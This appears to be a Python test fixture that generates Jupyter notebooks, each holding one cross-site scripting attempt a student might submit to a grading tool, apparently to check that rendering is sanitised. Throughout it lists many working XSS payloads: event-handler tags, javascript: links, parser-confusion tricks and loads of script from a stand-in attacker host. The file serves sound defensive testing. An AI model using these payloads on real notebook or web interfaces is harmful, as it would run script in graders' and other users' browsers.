"""What a student could write to act in the reader's browser, one cell for each attempt."""

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from tests.grading.marked import ANSWER, CHECK

RUN = "alert(1)"
AWAY = "http://attacker.invalid/"
_RUN_TAG = f"<script>{RUN}</script>"
_IMAGE = f"<img src=x onerror={RUN}>"
_PAGE = base64.b64encode(_RUN_TAG.encode()).decode()
_DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{AWAY}"/></svg>'

MARKDOWN = {
    "script": _RUN_TAG,
    "script_in_upper_case": f"<SCRIPT>{RUN}</SCRIPT>",
    "script_broken_by_a_comment": f"<scr<!-- -->ipt>{RUN}</scr<!-- -->ipt>",
    "script_with_a_slash": f"<script/x>{RUN}</script/x>",
    "script_from_elsewhere": f"<script src={AWAY}x.js></script>",
    "script_in_a_paragraph": f"Sales rose. {_RUN_TAG} They fell.",
    "script_nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image_error": _IMAGE,
    "image_with_slashes": f'<img/src="x"/onerror="{RUN}">',
    "image_with_a_line_break": f"<img src=x\nonerror\n=\n'{RUN}'>",
    "image_unclosed": f'<img src=x onerror="{RUN}" ',
    "image_from_elsewhere": f'<img src="{AWAY}seen.png">',
    "image_set_from_elsewhere": f'<img srcset="{AWAY}seen.png 1x"><picture><source srcset="{AWAY}seen.png"></picture>',
    "drawing": _DRAWING,
    "drawing_animates_a_link": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>x</text></a></svg>',
    "details_toggled": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "video_error": f'<video src=x onerror="{RUN}"></video><audio src={AWAY}x autoplay>',
    "focus": f'<a href="#" autofocus tabindex=0 onfocus="{RUN}">x</a>',
    "animation": f'<style>@keyframes x{{}}</style><p style="animation:x 1s" onanimationstart="{RUN}">x</p>',
    "pointer": f'<b onmouseover="{RUN}" onpointerenter="{RUN}" style="position:fixed;inset:0">x</b>',
    "frame": f"<iframe src=\"javascript:parent.{RUN}\"></iframe>",
    "frame_with_its_own_page": f"<iframe srcdoc=\"&lt;script&gt;parent.{RUN}&lt;/script&gt;\"></iframe>",
    "object": f'<object data="data:text/html;base64,{_PAGE}"></object><embed src="data:text/html;base64,{_PAGE}">',
    "base": f'<base href="{AWAY}"><img src="seen.png">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "link": f'<link rel="stylesheet" href="{AWAY}x.css"><link rel="prefetch" href="{AWAY}y">',
    "style": f'<style>@import "{AWAY}x.css"; body {{ background: url({AWAY}y) }}</style>',
    "style_attribute": f'<p style="background-image: url({AWAY}y)">x</p>',
    "form": f'<form action="{AWAY}" id="f"><input autofocus onfocus="{RUN}" name="x"><button formaction="javascript:{RUN}">x</button></form>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "page_end": f"</div></main></body></html><body onload='{RUN}'>{_IMAGE}",
    "box_end": f"</textarea></title></style></pre></code>{_IMAGE}",
    "noscript": f'<noscript><p title="</noscript>{_IMAGE}">x</p></noscript>',
    "template": f"<template>{_IMAGE}</template><div><template shadowrootmode=open>{_IMAGE}</template></div>",
    "mathml_style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_IMAGE.replace("<", "&lt;").replace(">", "&gt;")}">',
    "mathml_annotation": f'<math><annotation-xml encoding="text/html"><style><img title="</style>{_IMAGE}"></style></annotation-xml></math>',
    "mathml_link": f'<math><mrow href="javascript:{RUN}" xlink:href="javascript:{RUN}"><mi>x</mi></mrow></math>',
    "svg_style": f'<svg></p><style><a id="</style>{_IMAGE}">',
    "svg_title": f"<svg><title><style><img title=\"</style>{_IMAGE}\"></title></svg>",
    "form_in_math": f"<form><math><mtext></form><form><mglyph><style></math>{_IMAGE}",
    "select": f"<select><template><style></select>{_IMAGE}</style></template></select>",
    "comment_end": f"<!--><{_IMAGE[1:]}--!>{_IMAGE}-->",
    "cdata": f"<![CDATA[><{_IMAGE[1:]}]]><?xml {_IMAGE}?>",
    "plaintext": f"<xmp><p title=\"</xmp>{_IMAGE}\"></xmp><noembed><p title=\"</noembed>{_IMAGE}\">",
    "null_character": f"<scr\x00ipt>{RUN}</scr\x00ipt><img src=x on\x00error={RUN}>",
    "markdown_link": f"[x](javascript:{RUN})",
    "markdown_link_in_entities": f"[x](&#106;avascript&colon;{RUN})",
    "markdown_link_with_a_tab": f"[x](<java\tscript:{RUN}>)\n\n[y](&#x01;javascript:{RUN})",
    "markdown_link_to_a_page": f"[x](data:text/html;base64,{_PAGE})",
    "markdown_link_behind_files": f"[x](/files/javascript:{RUN}) <a href='files/javascript:{RUN}'>y</a>",
    "markdown_link_to_the_submission": "[x](evil.html)",
    "markdown_link_to_formgrader": f"[x](http://127.0.0.1:8888/formgrader/manage_students/%22;{RUN}//)",
    "markdown_link_title": f"[x](http://a.invalid '\"><img src=x onerror={RUN}>')",
    "markdown_link_address": f'[x](http://a.invalid/"onmouseover="{RUN})',
    "markdown_image": f"![x](javascript:{RUN}) ![y]({AWAY}seen.png)",
    "markdown_image_text": f'!["onerror="{RUN}](x) ![<script>{RUN}</script>](y)',
    "markdown_image_with_a_formula": rf'![$\text{{"onerror="{RUN}}}$](data:image/png;base64,eA==)',
    "markdown_reference": f"[x][1] ![y][1]\n\n[1]: javascript:{RUN} \"'><img src=x onerror={RUN}>\"",
    "markdown_address": f"<javascript:{RUN}> <data:text/html;base64,{_PAGE}>",
    "markdown_fence": f"```\"><script>{RUN}</script>\n</code></pre>{_IMAGE}\n```\n\n```mermaid\n{_IMAGE}\n```",
    "markdown_table": f"|a|\n|-|\n|{_IMAGE}|",
    "markdown_heading": f"# x {_IMAGE}",
    "formula_text": rf"$\text{{<script>{RUN}</script><img src=x onerror={RUN}>}}$",
    "formula_link": rf"$\href{{javascript:{RUN}}}{{x}}$ $\style{{background:url({AWAY})}}{{x}}$",
    "formula_unreadable": rf"$\frac{{{_IMAGE}$ $${_IMAGE}\begin{{x}}$$",
    "formula_environment": f"\\begin{{align}}{_IMAGE}\\end{{align}}",
    "bootstrap_tooltip": f'<a data-toggle="tooltip" data-html="true" title="{_IMAGE.replace("<", "&lt;")}" data-link="x">x</a>',
    "names_of_the_page": '<form id="formgrader" name="base_url"><input name="submission_id"></form><b class="score" id="check">x</b>',
}

OUTPUTS = {
    "html_script": new_output("display_data", data={"text/html": _RUN_TAG}),
    "html_as_a_list": new_output("display_data", data={"text/html": ["<scr", f"ipt>{RUN}</script>"]}),
    "html_isolated": new_output("display_data", data={"text/html": _RUN_TAG}, metadata={"text/html": {"isolated": True}}),
    "html_image": new_output("execute_result", data={"text/html": _IMAGE, "text/plain": _IMAGE}),
    "markdown": new_output("display_data", data={"text/markdown": f"{_IMAGE} [x](javascript:{RUN})"}),
    "drawing": new_output("display_data", data={"image/svg+xml": _DRAWING}),
    "drawing_ends_its_tag": new_output("display_data", data={"image/svg+xml": f'"><script>{RUN}</script>'}),
    "javascript": new_output("display_data", data={"application/javascript": RUN, "text/javascript": RUN}),
    "latex": new_output("display_data", data={"text/latex": rf"$$\text{{{_IMAGE}}}$$"}),
    "latex_link": new_output("display_data", data={"text/latex": rf"$\href{{javascript:{RUN}}}{{x}}$"}),
    "latex_script": new_output("display_data", data={"text/latex": _RUN_TAG}),
    "picture_ends_its_tag": new_output("display_data", data={"image/png": f'x" onerror="{RUN}'}),
    "picture_is_a_page": new_output("display_data", data={"image/jpeg": _PAGE}),
    "picture_width": new_output("display_data", data={"image/png": "iVBORw0KGgo="}, metadata={"image/png": {"width": f"1 onerror={RUN}"}}),
    "picture_text": new_output("display_data", data={"image/png": "iVBORw0KGgo="}, metadata={"alt": f'" onerror="{RUN}', "image/png": [_IMAGE]}),
    "picture_file": new_output("display_data", data={"image/png": "x"}, metadata={"filenames": {"image/png": f"{AWAY}x.png"}}),
    "widget": new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{_RUN_TAG}"}}),
    "mermaid": new_output("display_data", data={"text/vnd.mermaid": _IMAGE}),
    "unknown_kind": new_output("display_data", data={"application/vnd.plotly.v1+json": {"x": _IMAGE}, f"text/{_IMAGE}": _IMAGE}),
    "printed": new_output("stream", name="stdout", text=_RUN_TAG + _IMAGE),
    "warned": new_output("stream", name="stderr", text=f"</pre>{_IMAGE}"),
    "printed_with_colours": new_output("stream", name="stdout", text=f"\x1b[31;\"onclick={RUN}m\x1b[38;2;1;2;3m<\x1b[0mscript>{RUN}</script>"),
    "printed_terminal_link": new_output("stream", name="stdout", text=f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07"),
    "error": new_output("error", ename=_IMAGE, evalue=_RUN_TAG, traceback=[f"\x1b[0;31m{_IMAGE}\x1b[0m", _RUN_TAG]),
    "error_without_traceback": new_output("error", ename=_IMAGE, evalue=_RUN_TAG, traceback=[]),
}


def _attached(name, kind, data, reference):
    return new_markdown_cell(f"![x](attachment:{reference})", attachments={name: {kind: data}})


CELLS = {
    "raw": new_raw_cell(_RUN_TAG + _IMAGE),
    "raw_html": new_raw_cell(_RUN_TAG, metadata={"raw_mimetype": "text/html"}),
    "code": new_code_cell(f'"""</pre></div>{_IMAGE}"""\n# </script>{_RUN_TAG}'),
    "code_in_an_answer": new_code_cell(f"# {_IMAGE}", metadata=ANSWER),
    "code_in_another_language": new_code_cell(_IMAGE, metadata={"magics_language": f'"><script>{RUN}</script>'}),
    "grade_id": new_code_cell("1", metadata={"nbgrader": {**ANSWER["nbgrader"], "grade_id": f'"><script>{RUN}</script>'}}),
    "grade_id_and_points": new_code_cell("1", metadata={"nbgrader": {**ANSWER["nbgrader"], "grade": True, "points": _IMAGE, "grade_id": f"x autofocus onfocus={RUN}"}}),
    "settings_are_text": new_markdown_cell("x", metadata={"nbgrader": _RUN_TAG}),
    "comment_in_settings": new_markdown_cell("x", metadata={"nbgrader": {**ANSWER["nbgrader"], "comment": _IMAGE}}),
    "check_message": new_code_cell("1", metadata=CHECK, outputs=[OUTPUTS["printed"], OUTPUTS["error"]]),
    "tags": new_markdown_cell("x", metadata={"tags": [f'"><script>{RUN}</script>'], "name": _IMAGE, "collapsed": _IMAGE}),
    "attachment_page": _attached("x", "text/html", _PAGE, "x"),
    "attachment_kind": _attached("x", f'image/png" onerror="{RUN}', "eA==", "x"),
    "attachment_data": _attached("x", "image/png", f'eA==" onerror="{RUN}', "x"),
    "attachment_name": _attached(f'x"onerror="{RUN}', "image/png", "eA==", f"<x\"onerror=\"{RUN}>"),
    "attachment_drawing": _attached("x", "image/svg+xml", base64.b64encode(_DRAWING.encode()).decode(), "x"),
    "attachment_missing": new_markdown_cell(f"![{_IMAGE}](attachment:none)"),
}


METADATA = {
    "title": {"title": _RUN_TAG},
    "language": {"language_info": {"name": "python", "pygments_lexer": f'"><script>{RUN}</script>'}},
    "widgets": {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script>{_RUN_TAG}"}, "version_major": 2, "version_minor": 0}}},
    "widgets_without_state": {"widgets": {"application/vnd.jupyter.widget-state+json": {}}},
}


def attacks():
    """Return every attempt as a notebook, by name."""
    cells = {f"markdown {name}": new_markdown_cell(source) for name, source in MARKDOWN.items()}
    cells |= {f"output {name}": new_code_cell("1", outputs=[output]) for name, output in OUTPUTS.items()}
    cells |= {f"cell {name}": cell for name, cell in CELLS.items()}
    notebooks = {name: new_notebook(cells=[cell]) for name, cell in cells.items()}
    for name, metadata in METADATA.items():
        notebooks[f"metadata {name}"] = new_notebook(cells=[new_code_cell("1", outputs=[OUTPUTS["html_image"]])], metadata=metadata)
    return notebooks
